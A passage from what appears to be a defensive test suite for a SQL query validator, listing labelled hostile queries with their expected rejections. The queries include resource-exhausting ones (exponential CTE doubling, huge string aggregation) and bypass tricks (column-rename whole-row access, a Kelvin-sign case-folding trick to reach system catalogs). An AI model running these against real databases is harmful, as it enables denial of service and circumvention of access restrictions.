SELECT replace(class, 'a', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx') FROM pfa_merged

-- class: growth
-- title: nested literal replaces that multiply the length
-- expect: unbounded_growth
SELECT replace(replace(replace(data::text, 'a', 'aaaaaaaa'), 'a', 'aaaaaaaa'), 'a', 'aaaaaaaa') FROM pfa_merged

-- class: growth
-- title: string functions nested four deep
-- expect: unbounded_growth
SELECT concat(replace(concat_ws(',', replace(class, 'a', 'b'), area), 'c', 'd'), 'x') FROM pfa_merged

-- class: growth
-- title: replace whose pattern is a column
-- expect: unbounded_growth
SELECT replace(data::text, area, class) FROM pfa_merged

-- class: growth
-- title: string_agg of nested replaces
-- expect: unbounded_growth
SELECT string_agg(replace(replace(replace(data::text, 'a', 'bb'), 'c', 'dd'), 'e', 'ff'), ',') FROM pfa_merged

-- class: growth
-- title: concatenation multiplied across a chain of CTEs
-- expect: unbounded_growth
WITH c0 AS (SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' AS t), c1 AS (SELECT concat(t, t, t, t, t, t, t, t) AS t FROM c0), c2 AS (SELECT concat(t, t, t, t, t, t, t, t) AS t FROM c1) SELECT length(t) FROM c2

-- class: growth
-- title: concatenation operator multiplied through derived tables
-- expect: unbounded_growth
SELECT length(s2.t || s2.t) FROM (SELECT s1.t || s1.t || s1.t AS t FROM (SELECT data::text || data::text AS t FROM pfa_merged) s1) s2

-- class: growth
-- title: built text passed through a star and built on again
-- expect: unbounded_growth
WITH c1 AS (SELECT class || class || class AS t FROM pfa_merged), c2 AS (SELECT * FROM c1) SELECT concat(t, t) FROM c2

-- class: growth
-- title: LIKE with a long wildcard pattern over built text
-- expect: unbounded_growth
WITH c AS (SELECT concat(data::text, data::text) AS t FROM pfa_merged) SELECT count(*) FROM c WHERE t LIKE '%a%a%a%a%a%a%a%a%a%a%a%b%'

-- class: growth
-- title: LIKE with a column as the pattern
-- expect: unbounded_growth
SELECT count(*) FROM pfa_merged a, pfa_merged b WHERE a.data::text LIKE b.class

-- class: growth
-- title: concat with very many arguments
-- expect: unbounded_growth
SELECT concat(data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data, data) FROM pfa_merged

-- class: growth
-- title: string_agg of the whole record
-- expect: unbounded_growth
SELECT length(string_agg(data::text, ',')) FROM pfa_merged

-- class: growth
-- title: string_agg of built text
-- expect: unbounded_growth
SELECT string_agg(class || area || category, ',') FROM pfa_merged

-- class: growth
-- title: every row of a cross join in one array value
-- expect: unbounded_growth
SELECT ARRAY(SELECT a.data FROM pfa_merged a, pfa_merged b, pfa_merged c) IS NULL

-- class: attribute_notation
-- title: a column list renames away the column, leaving a function call
-- expect: unknown_column
SELECT s.json_agg FROM (SELECT id AS json_agg, organization_id, data FROM pfa_merged) AS s(x)

-- class: attribute_notation
-- title: a CTE alias column list renames away the column
-- expect: unknown_column
WITH c AS (SELECT id AS json_agg, category FROM pfa_merged) SELECT x.json_agg FROM c AS x(a)

-- class: attribute_notation
-- title: a LATERAL column list renames away the column
-- expect: unknown_column
SELECT l.to_jsonb FROM pfa_merged p, LATERAL (SELECT p.id AS to_jsonb, p.data) AS l(k)

-- class: attribute_notation
-- title: renamed away behind a star
-- expect: unknown_column
SELECT length(CAST(t.jsonb_agg AS TEXT)) FROM (SELECT * FROM (SELECT id AS jsonb_agg, data FROM pfa_merged) s(x)) t

-- class: attribute_notation
-- title: output name inside an ORDER BY expression is the whole row
-- expect: unknown_column
SELECT id AS p FROM pfa_merged p ORDER BY length(CAST(p AS TEXT))

-- class: attribute_notation
-- title: whole row in a GROUP BY expression
-- expect: unknown_column
SELECT count(*) AS p FROM pfa_merged p GROUP BY CAST(p AS TEXT)

-- class: attribute_notation
-- title: a CTE body resolving a name against the outer FROM
-- expect: unknown_column
WITH c AS (SELECT count(CAST(p AS TEXT)) AS n FROM pfa_merged p) SELECT n FROM c, (SELECT 1 AS p) s

-- class: attribute_notation
-- title: a JOIN ON resolving a name against a later join
-- expect: unknown_column
SELECT 1 FROM pfa_merged p JOIN pfa_merged q ON CAST(p AS TEXT) <> '' JOIN (SELECT 1 AS p) r ON true

-- class: cte_scope
-- title: a Kelvin sign in a CTE name folds to k in Python but not in PostgreSQL
-- expect: system_catalog
WITH pg_stat_checKpointer AS (SELECT 1 AS a) SELECT * FROM pg_stat_checkpointer

-- class: cte_scope
-- title: a Kelvin sign CTE name over pg_locks
-- expect: system_catalog
WITH pg_locKs AS (SELECT 1 AS a) SELECT * FROM pg_locks

-- class: attribute_notation
-- title: star over a USING join renamed by a column list
-- expect: forbidden_construct
WITH a AS (SELECT id AS k FROM pfa_merged), b AS (SELECT id AS k, category AS row_to_json FROM pfa_merged) SELECT s.row_to_json FROM (SELECT * FROM a JOIN b USING (k)) s(x, y)

-- class: attribute_notation
-- title: json_agg through a star over a USING join
-- expect: forbidden_construct
SELECT length(CAST(s.json_agg AS TEXT)) FROM (SELECT * FROM (SELECT id AS k FROM pfa_merged) a JOIN (SELECT id AS k, data, category AS json_agg FROM pfa_merged) b USING (k)) s(x, y, z)

-- class: attribute_notation
-- title: natural join
-- expect: forbidden_construct
SELECT s.to_json FROM (SELECT * FROM (SELECT id AS k FROM pfa_merged) a NATURAL JOIN (SELECT id AS k, category AS to_json FROM pfa_merged) b) s(x, y)

-- class: attribute_notation
-- title: alias.* inside an aggregate
-- expect: unknown_column
SELECT count(DISTINCT p.*) AS n, max(length(CAST(p.* AS TEXT))) AS longest FROM pfa_merged p

-- class: attribute_notation
-- title: alias.* cast to text inside string_agg
-- expect: unknown_column
SELECT length(string_agg(CAST(p.* AS TEXT), ',')) FROM pfa_merged p

-- class: attribute_notation
-- title: a JOIN ON reading an item before the comma as a whole row
-- expect: unknown_column
SELECT count(*) FROM (SELECT id, category AS zz FROM pfa_merged) a, pfa_merged AS zz JOIN pfa_merged c ON c.id = zz.id AND CAST(zz AS TEXT) LIKE '(PFA-%'

-- class: growth
-- title: LIKE over a string_agg built from empty strings and a long separator
-- expect: unbounded_growth
SELECT count(*) FROM pfa_merged a, pfa_merged b HAVING string_agg(btrim(a.source, 'RentalPurchase'), 'aaaaaaaa') LIKE '%aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab'

-- class: growth
-- title: LIKE over a scalar subquery
-- expect: unbounded_growth
SELECT count(*) FROM pfa_merged WHERE (SELECT max(class) FROM pfa_merged) LIKE '%a%'

-- class: growth
-- title: string_agg with a very long separator
-- expect: unbounded_growth
SELECT count(*) FROM pfa_merged a, pfa_merged b HAVING length(string_agg(a.source, 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')) > 0

-- class: growth
-- title: string_agg of the whole record renamed in a CTE
-- expect: unbounded_growth
WITH c AS (SELECT data AS d FROM pfa_merged) SELECT length(string_agg(CAST(d AS TEXT), ',')) FROM c

-- class: growth
-- title: arrays doubling through a chain of CTEs
-- expect: too_complex
WITH c0 AS (SELECT ARRAY[data, data, data, data, data, data, data, data, data, data] AS a FROM pfa_merged WHERE id = 'PFA-0000001'), c1 AS (SELECT ARRAY[a, a, a, a, a, a, a, a, a, a] AS a FROM c0 OFFSET 0), c2 AS (SELECT ARRAY[a, a, a, a, a, a, a, a, a, a] AS a FROM c1 OFFSET 0), c3 AS (SELECT ARRAY[a, a, a, a, a, a, a, a, a, a] AS a FROM c2 OFFSET 0), c4 AS (SELECT ARRAY[a, a, a, a, a, a, a, a, a, a] AS a FROM c3 OFFSET 0), c5 AS (SELECT ARRAY[a, a, a, a, a, a, a, a, a, a] AS a FROM c4 OFFSET 0) SELECT a IS NULL FROM c5

-- class: growth
-- title: row constructors doubling through a chain of CTEs
-- expect: too_complex
WITH c0 AS (SELECT data AS a FROM pfa_merged WHERE id = 'PFA-0000001'), c1 AS (SELECT (a, a) AS a FROM c0 OFFSET 0), c2 AS (SELECT (a, a) AS a FROM c1 OFFSET 0), c3 AS (SELECT (a, a) AS a FROM c2 OFFSET 0), c4 AS (SELECT (a, a) AS a FROM c3 OFFSET 0), c5 AS (SELECT (a, a) AS a FROM c4 OFFSET 0), c6 AS (SELECT (a, a) AS a FROM c5 OFFSET 0), c7 AS (SELECT (a, a) AS a FROM c6 OFFSET 0), c8 AS (SELECT (a, a) AS a FROM c7 OFFSET 0), c9 AS (SELECT (a, a) AS a FROM c8 OFFSET 0), c10 AS (SELECT (a, a) AS a FROM c9 OFFSET 0), c11 AS (SELECT (a, a) AS a FROM c10 OFFSET 0), c12 AS (SELECT (a, a) AS a FROM c11 OFFSET 0), c13 AS (SELECT (a, a) AS a FROM c12 OFFSET 0), c14 AS (SELECT (a, a) AS a FROM c13 OFFSET 0), c15 AS (SELECT (a, a) AS a FROM c14 OFFSET 0), c16 AS (SELECT (a, a) AS a FROM c15 OFFSET 0), c17 AS (SELECT (a, a) AS a FROM c16 OFFSET 0), c18 AS (SELECT (a, a) AS a FROM c17 OFFSET 0), c19 AS (SELECT (a, a) AS a FROM c18 OFFSET 0), c20 AS (SELECT (a, a) AS a FROM c19 OFFSET 0) SELECT a IS NULL FROM c20

-- class: growth
-- title: arithmetic doubling through a chain of CTEs (planner memory)
-- expect: too_complex
WITH c0 AS (SELECT monthly_rate AS x FROM pfa_merged WHERE id = 'PFA-0000001'), c1 AS (SELECT x + x AS x FROM c0), c2 AS (SELECT x + x AS x FROM c1), c3 AS (SELECT x + x AS x FROM c2), c4 AS (SELECT x + x AS x FROM c3), c5 AS (SELECT x + x AS x FROM c4), c6 AS (SELECT x + x AS x FROM c5), c7 AS (SELECT x + x AS x FROM c6), c8 AS (SELECT x + x AS x FROM c7), c9 AS (SELECT x + x AS x FROM c8), c10 AS (SELECT x + x AS x FROM c9), c11 AS (SELECT x + x AS x FROM c10), c12 AS (SELECT x + x AS x FROM c11), c13 AS (SELECT x + x AS x FROM c12), c14 AS (SELECT x + x AS x FROM c13), c15 AS (SELECT x + x AS x FROM c14), c16 AS (SELECT x + x AS x FROM c15), c17 AS (SELECT x + x AS x FROM c16), c18 AS (SELECT x + x AS x FROM c17), c19 AS (SELECT x + x AS x FROM c18) SELECT x FROM c19
